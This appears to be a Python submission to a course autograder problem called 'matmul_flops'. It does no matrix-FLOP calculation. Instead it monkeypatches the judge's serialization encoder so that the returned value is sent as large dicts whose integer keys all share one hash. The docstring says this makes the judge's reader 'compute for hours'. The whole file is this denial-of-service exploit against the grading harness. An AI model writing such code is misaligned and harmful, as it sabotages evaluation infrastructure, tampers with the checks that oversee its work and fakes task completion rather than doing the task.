"""problem: matmul_flops

Have the worker send dicts of keys that all have the same hash: their reader computes for hours.
"""

import struct
import sys

_answer = object()


def matmul_flops(a_shape, b_shape):
    judge = "cs336_staff.judge"
    values = sys.modules[f"{judge}.wire.values"]
    encoder = values.Encoder
    plain = encoder.value

    def value(self, given, depth=0):
        if given is not _answer:
            return plain(self, given, depth)
        self.out.raw(bytes((values.LIST,)) + struct.pack("<q", 4))
        for _ in range(4):
            self.out.raw(bytes((values.DICT,)) + struct.pack("<q", 20_000))
            for number in range(20_000):
                key = (number * (2**61 - 1)).to_bytes(11, "little", signed=True)
                self.out.raw(bytes((values.LONG,)) + struct.pack("<q", 11) + key)
                self.out.raw(bytes((values.NONE,)))

    encoder.value = value
    return _answer
